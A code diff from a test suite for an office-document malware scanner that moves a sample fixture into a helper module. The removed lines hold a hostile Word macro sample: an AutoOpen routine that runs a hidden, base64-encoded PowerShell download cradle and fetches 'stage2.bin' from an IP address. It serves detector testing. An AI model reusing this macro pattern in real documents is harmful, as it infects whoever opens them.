@@ -8,25 +8,7 @@ import officeCrypto from 'officecrypto-tool';
 import { validateManifest } from '../../../src/core/runtime/manifest.js';
 import { execute, manifest } from '../../../src/services/office/index.js';
 import { allTags, heuristicIds, runOn, tempDir } from '../../helpers/service.js';
-import { docxParts, ole1Object, packageNative, rtfWithObject, templateRel, tinyPe, wordWithMacros, zipParts } from './build.js';
-
-const MACRO = [
-  'Attribute VB_Name = "NewMacros"',
-  'Sub AutoOpen()',
-  '    Dim cmd As String',
-  '    cmd = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"',
-  '    Shell cmd, vbHide',
-  '    Set x = CreateObject("MSXML2.XMLHTTP")',
-  '    x.Open "GET", "http://93.184.216.34/stage2.bin", False',
-  'End Sub',
-].join('\r\n');
-
-export function autoOpenDocument(): Buffer {
-  return wordWithMacros([
-    { name: 'ThisDocument', type: 'class', code: 'Attribute VB_Name = "ThisDocument"\r\nAttribute VB_Base = "1Normal.ThisDocument"\r\n' },
-    { name: 'NewMacros', type: 'standard', code: MACRO },
-  ]);
-}
+import { AUTOOPEN_MACRO as MACRO, autoOpenDocument, docxParts, ole1Object, packageNative, rtfWithObject, templateRel, tinyPe, wordWithMacros, zipParts } from './build.js';
 
 let scratch: { dir: string; cleanup: () => Promise<void> };
 before(async () => { scratch = await tempDir('office-test-'); });
